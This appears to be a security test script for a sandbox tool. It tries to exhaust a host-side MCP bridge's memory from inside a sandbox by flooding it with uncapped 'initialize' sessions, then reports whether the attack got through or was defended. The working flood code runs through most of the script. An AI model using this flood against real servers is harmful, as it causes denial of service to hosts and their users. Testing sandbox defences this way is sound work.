#!/bin/bash
# Exhaust host memory from inside: open MCP sessions (initialize only, never DELETE) as fast as
# possible over keep-alive connections. Sessions are never capped or expired, so the bridge's RSS
# (a host process, outside the sandbox's memory cgroup) grows linearly.
# Got through if the bridge RSS grows by more than 768 MiB within ~35 s of requests
# from a sandbox whose own memory limit is 512 MiB.
source "$(dirname "$0")/lib.sh"
write_mcp_hcl ''
write_sandbox 'mcp "atk" {}'
up || die "up failed"
BPID=$(tr -dc 0-9 < "$AIRLOCK_HOME/bridge.lock"); [ -n "$BPID" ] || die "no bridge pid"
rss() { awk '/VmRSS/{print $2}' /proc/$BPID/status; }
r0=$(rss); echo "bridge pid $BPID rss0 ${r0}kB"
end=$(( $(date +%s) + 35 ))
while [ $(date +%s) -lt $end ]; do
  timeout 20 airlock exec atk -- /usr/bin/python3 -c "$CLIENT
import threading
INIT=json.dumps({'jsonrpc':'2.0','id':1,'method':'initialize','params':{'protocolVersion':'2025-03-26','capabilities':{},'clientInfo':{'name':'x','version':'1'}}})
def many(n):
    c=http.client.HTTPConnection('127.0.0.1',8551,timeout=15)
    for i in range(n):
        c.request('POST','/mcp/atk',body=INIT,headers={'Content-Type':'application/json','Accept':'application/json, text/event-stream'}); c.getresponse().read()
ths=[threading.Thread(target=many,args=(1000,)) for i in range(8)]; [x.start() for x in ths]; [x.join() for x in ths]
" >/dev/null 2>&1
  echo "rss $(rss)kB"
  [ $(( $(rss) - r0 )) -gt $((768*1024)) ] && break
done
r1=$(rss); grow=$(( (r1 - r0) / 1024 )); echo "bridge RSS grew by ${grow} MiB"
timeout 30 airlock rm --force "$SB" >/dev/null 2>&1; SB=""; sleep 3
echo "after rm: rss $(rss)kB"
[ "$grow" -gt 768 ] && gotthrough
defended
